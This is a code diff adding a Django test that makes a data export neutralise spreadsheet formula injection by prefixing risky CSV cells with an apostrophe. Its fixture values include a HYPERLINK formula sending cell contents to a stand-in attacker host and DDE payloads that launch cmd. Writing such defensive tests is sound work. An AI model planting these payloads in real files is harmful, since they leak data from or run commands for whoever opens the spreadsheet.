@@ -327,3 +327,38 @@ def test_an_export_of_a_deleted_account_is_dropped(person, mailoutbox):
 
     assert services.export_build(export=export, now=timezone.now()) == export
     assert not any(p.is_file() for p in _exports_dir().rglob("*"))
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(
+    subscribed, client
+):
+    """Issue 13: a company named "=HYPERLINK(...)" ran as a formula in the customer's
+    spreadsheet. Text starting with = + - @ tab or CR gets a leading ' in the CSV files;
+    data.json keeps the text as it is, and numbers stay numbers."""
+    person = subscribed
+    formulas = {
+        "company": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "address_line1": "+33 1 23 45 67 89",
+        "address_line2": "-2+3+cmd|' /C calc'!A0",
+        "city": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "postal_code": "\t=1+1",
+    }
+    for field, value in formulas.items():
+        setattr(person, field, value)
+    person.save()
+    client.force_login(person)
+
+    client.post(EXPORT_PAGE)
+
+    export = DataExport.objects.get(user=person)
+    archive = _zip(client.get(f"/en/account/data/exports/{export.token}/"))
+    [profile] = _csv_rows(archive, "profile.csv")
+    for field, value in formulas.items():
+        assert profile[field] == "'" + value
+    assert profile["name"] == PERSONAL["name"]  # ordinary text is left alone
+    assert (
+        json.loads(archive.read("data.json"))["tables"]["profile"][0]["company"]
+        == (formulas["company"])
+    )
+    [invoice] = _csv_rows(archive, "invoices.csv")
+    assert invoice["total"] == str(Invoice.objects.get(user=person).total)
